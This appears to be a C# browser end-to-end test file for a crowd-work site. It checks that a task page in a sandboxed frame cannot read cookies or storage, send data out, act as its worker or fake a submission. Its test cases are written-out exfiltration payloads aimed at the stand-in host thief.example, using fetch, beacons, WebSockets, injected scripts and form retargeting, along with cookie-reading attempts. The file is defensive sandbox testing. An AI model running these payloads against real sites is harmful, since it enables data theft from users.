using Crowd.Marketplace.Tests.WorkerSite;

namespace Crowd.EndToEnd.Tests.WorkerSite;

/// <summary>What a HIT's own page tries, in a real browser, and does not get.</summary>
internal sealed class HostilePageTests : WorkerSiteFixture
{
    [TestCase("parent.document.title")]
    [TestCase("parent.location.href")]
    [TestCase("top.document.cookie")]
    [TestCase("document.cookie")]
    [TestCase("localStorage.length")]
    [TestCase("sessionStorage.length")]
    [TestCase("indexedDB.open('x')")]
    public async Task A_hit_page_cannot_reach(string expression)
    {
        var frame = await WorkOnAsync($"<form><button>Submit</button></form><script>window.attempt = () => {{ try {{ return 'got ' + {expression}; }} catch (e) {{ return 'refused'; }} }};</script>");

        Assert.That(await frame.EvaluateAsync<string>("attempt()"), Is.EqualTo("refused"));
    }

    [TestCase("new Image().src = 'http://thief.example/?' + document.body.innerText")]
    [TestCase("fetch('http://thief.example/').catch(() => 0)")]
    [TestCase("navigator.sendBeacon('http://thief.example/', 'x')")]
    [TestCase("new WebSocket('ws://thief.example/')")]
    [TestCase("location.href = 'http://thief.example/'")]
    [TestCase("document.querySelector('form').action = 'http://thief.example/'; document.querySelector('form').submit()")]
    [TestCase("open('http://thief.example/')")]
    [TestCase("top.location = 'http://thief.example/'")]
    [TestCase("const s = document.createElement('script'); s.text = \"eval('fetch(1)')\"; document.body.append(s); fetch('http://thief.example/')")]
    [TestCase("document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://thief.example/' }))")]
    [TestCase("document.head.append(Object.assign(document.createElement('script'), { src: 'http://thief.example/x.js' }))")]
    [TestCase("document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://thief.example/x.css' }))")]
    public async Task A_hit_page_cannot_send_anything_elsewhere(string script)
    {
        var reached = new List<string>();
        await Page.RouteAsync("**/*thief.example/**", async route =>
        {
            reached.Add(route.Request.Url);
            await route.AbortAsync();
        });
        var frame = await WorkOnAsync("<form method='post'><input name='a' value='1'><button>Submit</button></form><p>secret</p>");

        await frame.EvaluateAsync($"() => {{ try {{ {script}; }} catch (e) {{ }} return 1; }}");
        await RoundTripAsync();

        Assert.That(reached, Is.Empty);
        Assert.That(Page.Url, Does.Contain("/worker/assignments/"));
    }

    [Test]
    public async Task A_hit_page_cannot_act_as_its_worker_on_the_site()
    {
        var type = await HtmlHits.TypeAsync(Sql, Clock, Token);
        var other = await HtmlHits.AddAsync(Sql, Clock, type, 1, Token, "other");
        var frame = await WorkOnAsync($"<form method='post' action='/worker/hits/{other}/accept'><button>Submit</button></form>");

        await frame.EvaluateAsync("() => { document.querySelector('form').submit(); return fetch('/worker/earnings', { credentials: 'include' }).catch(() => 0); }");
        await RoundTripAsync();

        Assert.That(await TakesAsync(other.ToString()), Is.Zero);
    }

    [Test]
    public async Task A_false_message_of_success_submits_nothing()
    {
        var frame = await WorkOnAsync("<form><button>Submit</button></form>");

        await frame.EvaluateAsync("() => parent.postMessage('crowd:submitted', '*')");
        await Page.WaitForURLAsync("**/worker");

        Assert.That(
            await Sql.OneAsync("select status from assignments where worker_id = $1", [WorkerId], row => row.GetString(0), Token), Is.EqualTo("Accepted"));
    }

    [Test]
    public async Task A_question_opened_outside_its_frame_is_still_boxed_in()
    {
        await WorkOnAsync("<form><button>Submit</button></form>");
        await Page.GotoAsync(Page.Url + "/question");

        Assert.That(await Page.EvaluateAsync<string>("() => { try { return document.cookie + 'got'; } catch (e) { return 'refused'; } }"), Is.EqualTo("refused"));
    }

    // What the frame started comes before what is asked for after it: two trips through the browser's network, no waiting for time.
    private async Task RoundTripAsync()
    {
        for (var i = 0; i < 2; i++)
        {
            await Page.EvaluateAsync("() => fetch('/worker-site/icon.svg', { cache: 'no-store' }).then(reply => reply.text())");
        }
    }

    private Task<long> TakesAsync(string hit) =>
        Sql.OneAsync("select count(*) from assignments where hit_id = $1", [hit], row => row.GetInt64(0), Token);
}
